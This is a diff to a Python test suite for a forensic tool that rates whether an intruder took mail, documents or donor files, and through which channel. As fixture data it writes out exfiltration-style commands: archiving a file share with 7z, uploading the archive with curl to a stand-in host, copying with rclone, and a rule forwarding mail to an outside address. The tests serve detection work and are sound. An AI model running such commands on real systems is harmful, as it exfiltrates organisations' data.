@@ -94,15 +94,39 @@ def _assess(
         return assess_impact(store, items or [], find_gaps(store, items or [], profile, seen), seen, profile)
 
 
-def _one(*arguments: Any, **more: Any) -> Impact:
-    (row,) = _assess(*arguments, **more).impact
-    return row
+_GRAVITY = ("E0", "E1", "E2", "E4", "E3", "E5")
+_CHANNEL = {
+    "mailbox": "mail-read",
+    "sharepoint": "sharepoint-download",
+    "share": "share-read",
+    "table": "database-dump",
+}
+
+
+def _gravest(result: ImpactResult, data_class: str, channel: str) -> Impact:
+    rows = [row for row in result.impact if (row.data_class, row.channel) == (data_class, channel)]
+    return min(rows, key=lambda row: _GRAVITY.index(row.level))
+
+
+def _one(
+    background: list[dict[str, Any]],
+    intruder: list[dict[str, Any]],
+    classes: list[DataClass],
+    chance: float = 0.95,
+    *,
+    channel: str = "",
+    **more: Any,
+) -> Impact:
+    """The gravest slice of one class in one channel; by default the one that reads where the class is kept."""
+    result = _assess(background, intruder, classes, chance, **more)
+    return _gravest(result, classes[0].id, channel or _CHANNEL[classes[0].where[0].partition(":")[0]])
 
 
 def test_a_recorded_download_is_exfiltration_of_that_class_only() -> None:
     taken = _cloud(22, "FileDownloaded", "sharepoint:https://EXAMPLE.sharepoint.com/sites/cases/2026/x.docx")
     other = DataClass(id="o", label="Other", where=["sharepoint:https://example.sharepoint.com/sites/Case"])
-    cases, neighbour = _assess(_background(), [taken], [_CASES, other]).impact
+    result = _assess(_background(), [taken], [_CASES, other])
+    cases, neighbour = (_gravest(result, name, "sharepoint-download") for name in ("cases", "o"))
     assert (cases.level, cases.objects_count) == ("E0", 1)
     assert cases.event_ids
     assert neighbour.level == "E3", "a path is matched at its borders, not in the middle of a name"
@@ -129,9 +153,9 @@ def test_reading_a_document_is_access_with_the_window_printed() -> None:
     read = _cloud(22, "FileAccessed", "sharepoint:https://example.sharepoint.com/sites/Cases/x.docx")
     row = _one(_background(), [read], [_CASES])
     assert row.level == "E2"
-    assert "No evidence that they left by this channel was found" in row.statement
+    assert "No evidence that it left by this channel was found" in row.statement
     assert "cover 11 of the 11 calendar days from 21 January to 31 January 2026 (100%)" in row.statement
-    assert "Channels in use for this content: 1; with records that suffice: 1." in row.statement
+    assert "Channels in use for this content: 5; with records that suffice: 5." in row.statement
     assert " %) that some of it left this way." in row.statement
 
 
@@ -161,12 +185,14 @@ def test_packing_after_reading_is_told_and_packing_with_egress_is_probably_leavi
     read = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
     pack = _command(23, 'C:\\Tools\\7z.exe a c:\\temp\\a.7z "\\\\FS01\\Donors"')
     send = _command(24, "curl -T c:\\temp\\a.7z https://files.example.net/")
-    packed = _one(_background(), [read, pack], [_DONORS])
+    packed = _one(_background(), [read, pack], [_DONORS], channel="archive-staging")
     assert packed.level == "E2"
     assert packed.probability >= 0.5
     assert "packed into archives" in packed.statement
-    assert _one(_background(), [read, pack, send], [_DONORS]).level == "E1"
-    assert _one(_background(), [send, pack], [_DONORS]).level == "E3", "nothing of this class was read before"
+    sent = _assess(_background(), [read, pack, send], [_DONORS])
+    assert _gravest(sent, "donors", "archive-staging").level == "E1"
+    assert _gravest(sent, "donors", "web-upload").level == "E1"
+    assert _gravest(sent, "donors", "share-read").level == "E2"
 
 
 def test_carrying_away_is_found_behind_any_number_of_commands_that_pack() -> None:
@@ -174,7 +200,7 @@ def test_carrying_away_is_found_behind_any_number_of_commands_that_pack() -> Non
     read = _share_read(22, "Donors\\x.xlsx", source__ip="10.0.0.7")
     pack = _command(23, "rar a d.rar .")
     send = _command(24, "rclone copy d.rar remote:")
-    assert _one(_background(), [read, *[pack] * 5100, send], [_DONORS]).level == "E1"
+    assert _one(_background(), [read, *[pack] * 5100, send], [_DONORS], channel="web-upload").level == "E1"
 
 
 def test_an_archive_fetched_from_the_web_server_is_egress() -> None:
@@ -188,7 +214,7 @@ def test_an_archive_fetched_from_the_web_server_is_egress() -> None:
         http__response__status_code=200,
         vigilia__bytes=5_000_000,
     )
-    assert _one(_background(), [read, pack, fetch], [_DONORS]).level == "E1"
+    assert _one(_background(), [read, pack, fetch], [_DONORS], channel="web-upload").level == "E1"
 
 
 def _mail(day: int, kind: str, **fields: Any) -> dict[str, Any]:
@@ -210,7 +236,7 @@ def test_opened_messages_are_access_and_are_counted_by_message_id() -> None:
 
 
 def test_synchronising_a_mailbox_is_probably_leaving() -> None:
-    assert _one(_background(), [_mail(22, "Sync")], [_MAIL]).level == "E1"
+    assert _one(_background(), [_mail(22, "Sync")], [_MAIL], channel="mail-sync").level == "E1"
 
 
 def test_reading_while_throttled_means_assume_all_of_it() -> None:
@@ -237,17 +263,19 @@ def test_a_forwarding_rule_is_probably_leaving_and_a_sorting_rule_is_not() -> No
             fields=fields,
         )
 
-    assert _one(_background(), [rule(**{"Parameters.ForwardTo": "x@example.net"})], [_MAIL]).level == "E1"
-    assert _one(_background(), [rule(**{"Parameters.MoveToFolder": "RSS"})], [_MAIL]).level == "E3"
+    forwards, sorts = rule(**{"Parameters.ForwardTo": "x@example.net"}), rule(**{"Parameters.MoveToFolder": "RSS"})
+    assert _one(_background(), [forwards], [_MAIL], channel="mail-forwarding").level == "E1"
+    assert _one(_background(), [sorts], [_MAIL], channel="mail-forwarding").level == "E3"
 
 
 def test_an_exported_content_search_may_hold_any_mailbox_or_document() -> None:
     export = event(0, at=_at(22), event__action="SearchExportDownloaded", event__provider="SecurityComplianceCenter")
-    assert [row.level for row in _assess(_background(), [export], [_MAIL, _CASES, _DONORS]).impact] == [
-        "E1",
-        "E1",
-        "E3",
-    ]
+    result = _assess(_background(), [export], [_MAIL, _CASES, _DONORS])
+    assert [_gravest(result, name, "ediscovery-export").level for name in ("mail", "cases")] == ["E1", "E1"]
+    assert _gravest(result, "donors", "share-read").level == "E3"
+    named = event(0, at=_at(22), event__action="SearchExportDownloaded", fields={"ExchangeLocations": "bo@example.org"})
+    result = _assess(_background(), [named], [_MAIL, _CASES])
+    assert [_gravest(result, name, "ediscovery-export").level for name in ("mail", "cases")] == ["E3", "E3"]
 
 
 def test_silence_of_whole_records_is_no_evidence_and_never_certainty() -> None:
@@ -262,8 +290,8 @@ def test_silence_of_whole_records_is_no_evidence_and_never_certainty() -> None:
     ("days", "words"),
     [
         (range(0), "there is no record"),
-        (range(25, 60), "cover 45% of the calendar days from the intruder's first record to the last"),
-        (range(26), "cover 45% of the calendar days from the intruder's first record to the last"),
+        (range(25, 60), "from 21 January to 26 January 2026: whether"),
+        (range(26), "from 26 January to 31 January 2026: whether"),
         (range(18, 60), "may have been in before the records begin"),
     ],
 )
@@ -322,11 +350,10 @@ def test_nobody_found_gives_no_level_and_no_all_clear() -> None:
 
 def test_without_a_profile_the_built_in_classes_are_rated_and_the_profile_is_asked_for() -> None:
     result = _assess(_background(), [_mail(22, "Bind")], [])
-    assert [(row.data_class, row.level) for row in result.impact] == [
-        ("mail", "E2"),
-        ("documents", "E3"),
-        ("shares", "E3"),
-    ]
+    assert list(dict.fromkeys(row.data_class for row in result.impact)) == ["mail", "documents", "shares"]
+    assert _gravest(result, "mail", "mail-read").level == "E2"
+    assert _gravest(result, "documents", "sharepoint-download").level == "E3"
+    assert _gravest(result, "shares", "share-read").level == "E3"
     assert any("org.toml" in one.text for one in result.statements)
 
 
@@ -334,23 +361,24 @@ def test_statements_have_one_headline_each_row_counsel_and_numbered_ids() -> Non
     result = _assess(_background(), [_mail(22, "Bind")], [_MAIL, _DONORS])
     assert [one.id for one in result.statements] == [f"impact-{n}" for n in range(1, len(result.statements) + 1)]
     assert [one.weight for one in result.statements].count("headline") == 1
-    assert {row.statement for row in result.impact} <= {one.text for one in result.statements}
+    said = [one.text for one in result.statements]
+    for row in result.impact:
+        body = row.statement.removeprefix(f"“{row.label}”, {row.channel_label}: ")
+        assert any(row.label in text and row.channel_label in text and text.endswith(body) for text in said)
     counsel, *exports = [one for one in result.statements if one.question == "what-now"]
     assert all(one.text.startswith("Export: ") for one in exports)
     assert "legal counsel" in counsel.text
     assert "Director's mail" in counsel.text
-    assert "Donors" not in counsel.text
+    assert "Cannot be determined: “Donors”" in counsel.text
 
 
 def test_rows_of_which_the_same_is_true_are_told_in_one_sentence_with_the_gaps_of_all() -> None:
     kinds = [DataClass(id=f"k{n}", label=f"Kind {n}", where=_DONORS.where) for n in range(4)]
     result = _assess(_background(range(25, 60)), [], kinds)
-    assert len({row.statement for row in result.impact}) == 4
-    (told,) = [one for one in result.statements if one.question == "reached" and one.weight == "detail"]
-    assert told.text.startswith(
-        "“Kind 0”, “Kind 1”, “Kind 2” and “Kind 3” in file shares: whether the intruder reached"
-    )
-    assert set(told.gap_ids) == {gap for row in result.impact for gap in row.gap_ids}
+    told = [one for one in result.statements if one.question == "reached" and one.weight == "detail"]
+    assert len(told) < len(result.impact) / 3
+    assert all(one.text.startswith("“Kind 0”, “Kind 1”, “Kind 2” and “Kind 3”, ") for one in told)
+    assert {gap for one in told for gap in one.gap_ids} == {gap for row in result.impact for gap in row.gap_ids}
     headline = result.statements[0].text
     assert headline.count("Kind") == 4
     assert len(headline) < 200
